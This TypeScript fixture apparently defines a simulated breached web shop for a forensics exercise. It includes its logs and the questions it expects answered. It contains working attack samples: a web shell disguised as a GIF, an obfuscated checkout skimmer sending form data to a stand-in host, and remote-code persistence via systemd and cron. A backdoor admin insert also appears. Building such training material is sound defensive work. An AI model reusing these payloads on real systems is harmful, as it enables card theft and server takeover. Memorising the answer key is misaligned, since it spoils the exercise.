/** Debian, nginx and PHP-FPM, a shop: a settings file left open, a script hidden in a picture, a skimmer in the checkout. */
import { gzipSync } from 'node:zlib';
import {
  account,
  attacker,
  combined,
  entered,
  firstSeen,
  type Host,
  inTimeline,
  later,
  outbound,
  shell,
  stays,
  syslog,
  tampered,
  visitors,
} from './host.ts';

const THIEF = '203.0.113.77';
const SHELL = 'pub/media/customer_address/t/h/thumb.php';
const CHECKOUT = 'pub/static/frontend/shop/checkout.js';
const checkout = `define(['jquery'], function ($) { 'use strict'; return function (form) { $(form).validate(); }; });\n`;
const skimmer = `(function(){var u=atob('aHR0cHM6Ly9zdGF0cy1qcXVlcnkuZXhhbXBsZS9nLnBocA==');document.addEventListener('submit',function(){var o={};document.querySelectorAll('input,select').forEach(function(e){o[e.name]=e.value});(new Image()).src=u+'?d='+btoa(JSON.stringify(o))})})();\n`;
const visits = ['/', '/checkout/', '/catalog/shirt.html', '/customer/account/', '/static/a.css'];

const yesterday =
  visitors('2026-11-17T20:00:00Z', visits) +
  [
    ['GET /.git/config', 404],
    ['GET /.env.bak', 404],
    ['GET /app/etc/env.php.bak', 404],
    ['GET /backup.sql', 404],
    ['GET /.env', 200],
  ]
    .map(([what, status], i) =>
      combined(
        later('2026-11-17T22:41:05Z', i * 2),
        THIEF,
        String(what),
        Number(status),
        status === 200 ? 1843 : 162,
        'curl/8.5.0',
      ),
    )
    .join('');

const today =
  visitors('2026-11-18T01:00:00Z', visits) +
  combined('2026-11-18T01:12:44Z', THIEF, 'POST /customer/address_file/upload', 200, 187) +
  combined('2026-11-18T01:13:02Z', THIEF, 'GET /media/customer_address/t/h/thumb.php', 200, 41) +
  Array.from({ length: 14 }, (_, i) =>
    combined(
      later('2026-11-18T01:13:20Z', i * 41),
      THIEF,
      'POST /media/customer_address/t/h/thumb.php',
      200,
      300 + i * 211,
    ),
  ).join('');

export const debianShop: Host = {
  name: 'Debian shop with a skimmer',
  files: {
    'var/log/nginx/access.log.1.gz': gzipSync(yesterday),
    'var/log/nginx/access.log': today,
    'var/log/syslog': [
      `${syslog('2026-11-18T01:00:01Z')} shop1 CRON[811]: (www-data) CMD (php /var/www/shop/bin/magento cron:run)`,
      `${syslog('2026-11-18T01:24:10Z')} shop1 systemd[1]: Started php-session-gc.timer - PHP session garbage collection.`,
      `${syslog('2026-11-18T01:29:10Z')} shop1 systemd[1]: Starting php-session-gc.service - PHP session garbage collection...`,
      '',
    ].join('\n'),
    [`var/www/shop/${SHELL}`]:
      "GIF89a\x01\x00<?php $k='7b1c9d'; $h=$_SERVER['HTTP_X_CACHE_TAG']??''; if(substr(md5($h),0,6)===$k){ $d=base64_decode(file_get_contents('php://input')); for($i=0;$i<strlen($d);$i++){ $d[$i]=$d[$i]^$k[$i%6]; } $f=tmpfile(); fwrite($f,$d); include stream_get_meta_data($f)['uri']; }\n",
    'var/www/shop/pub/index.php':
      "<?php\nrequire __DIR__ . '/../app/bootstrap.php';\n$app = \\Shop\\App::create($_SERVER);\n$app->run();\n",
    [`var/www/shop/${CHECKOUT}`]: checkout + skimmer,
    [`baseline/var/www/shop/${CHECKOUT}`]: checkout,
    'var/www/shop/.env': 'APP_ENV=production\nDB_HOST=127.0.0.1\nDB_USER=shop\n',
    'etc/systemd/system/php-session-gc.timer':
      '[Unit]\nDescription=PHP session garbage collection\n[Timer]\nOnUnitActiveSec=5min\nOnBootSec=1min\n[Install]\nWantedBy=timers.target\n',
    'etc/systemd/system/php-session-gc.service':
      '[Unit]\nDescription=PHP session garbage collection\n[Service]\nType=oneshot\nExecStart=/usr/bin/php -r \'eval(file_get_contents("http://198.18.4.21/gc.txt"));\'\n',
    'etc/systemd/system/timers.target.wants/logrotate.timer': '[Timer]\nOnCalendar=daily\n',
    'etc/cron.d/php-sess':
      '*/7 * * * * www-data [ -f /var/www/shop/pub/media/customer_address/t/h/thumb.php ] || curl -so /var/www/shop/pub/media/customer_address/t/h/thumb.php http://198.18.4.21/t.gif\n',
    'etc/cron.d/php':
      '09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi\n',
    'root/.mysql_history': 'use shop;\nshow tables;\nselect count(*) from sales_order;\n',
    'var/www/.mysql_history':
      "select\\040user_id,username\\040from\\040admin_user;\ninsert\\040into\\040admin_user(username,password,is_active)\\040values('support_de','61ab','1');\n",
    'etc/passwd':
      'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nmysql:x:106:112:MySQL:/nonexistent:/bin/false\n',
  },
  questions: [
    attacker(THIEF),
    firstSeen(THIEF, '2026-11-17T22:41:05Z'),
    entered(/\.env|web shell|thumb\.php/),
    ...shell(SHELL, { key: '7b1c9d', first: '2026-11-18T01:13:02Z' }),
    tampered(CHECKOUT),
    outbound('stats-jquery.example'),
    outbound('198.18.4.21'),
    stays('php-session-gc.service', '198.18.4.21'),
    stays('etc/cron.d/php-sess', '198.18.4.21'),
    account('support_de'),
    inTimeline(/thumb\.php/, '2026-11-18T01:13:02Z'),
  ],
};
